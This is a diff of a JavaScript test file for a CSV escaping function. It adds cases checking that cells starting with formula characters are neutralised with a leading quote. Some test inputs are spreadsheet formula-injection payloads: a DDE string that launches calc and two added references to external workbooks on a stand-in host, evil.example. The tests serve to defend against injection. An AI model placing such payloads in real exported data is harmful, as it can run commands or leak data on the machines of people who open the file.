@@ -127,6 +127,8 @@ describe('csv', () => {
     ['x\n- brakes\n- lights', '"x\n- brakes\n- lights"'],
     ['x\n--1+cmd', `"x\n'--1+cmd"`],
     ["x\n- 1+cmd|' /C calc'!A0", `"x\n'- 1+cmd|' /C calc'!A0"`],
+    ["x\n- '\\\\evil.example\\a\\[b.xls]c'!A1", `"x\n'- '\\\\evil.example\\a\\[b.xls]c'!A1"`],
+    ["x\n- 'https://evil.example/a.ods'#$b.A1", `"x\n'- 'https://evil.example/a.ods'#$b.A1"`],
     ['a=1', '"a=1"'],
     ['', '""'],
     ['say "hi", twice', '"say ""hi"", twice"'],
